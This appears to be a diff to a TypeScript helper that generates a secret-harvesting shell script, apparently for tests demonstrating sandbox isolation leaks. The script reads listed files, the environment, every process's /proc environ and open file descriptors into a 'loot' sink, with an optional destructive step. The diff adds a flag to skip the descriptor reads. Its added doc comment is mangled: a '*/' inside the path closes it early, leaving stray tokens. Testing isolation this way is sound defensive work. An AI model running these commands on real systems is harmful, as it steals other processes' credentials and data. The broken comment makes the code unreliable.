@@ -127,6 +127,12 @@ export function attackScript(options: {
   files: readonly string[];
   marker: string;
   destructive: boolean;
+  /**
+   * Read every /proc/*/ fd /* (default true). Unisolated, that reads the test runner's own IPC pipes
+   * and eats its messages (the runner then waits forever), so the `none` demonstrations skip it;
+   * their environ reads already show the leak.
+   */;
+  fds?: boolean;
 }): string {
   const files = options.files.map((f) => `"${f}"`).join(' ');
   return String.raw`L=$(mktemp)
@@ -139,7 +145,7 @@ for f in ${files}; do cat "$f" 2>/dev/null | loot; done; flush
 env | loot; flush
 for f in /proc/[0-9]*/environ; do cat "$f" 2>/dev/null | loot; done; flush
 ${options.destructive ? destructive(options.marker) : ''}
-for f in /proc/[0-9]*/fd/*; do timeout 0.2 head -c 65536 "$f" 2>/dev/null | loot; flush; done
+${options.fds === false ? '' : String.raw`for f in /proc/[0-9]*/fd/*; do timeout 0.2 head -c 65536 "$f" 2>/dev/null | loot; flush; done`}
 sleep 60
 `;
 }
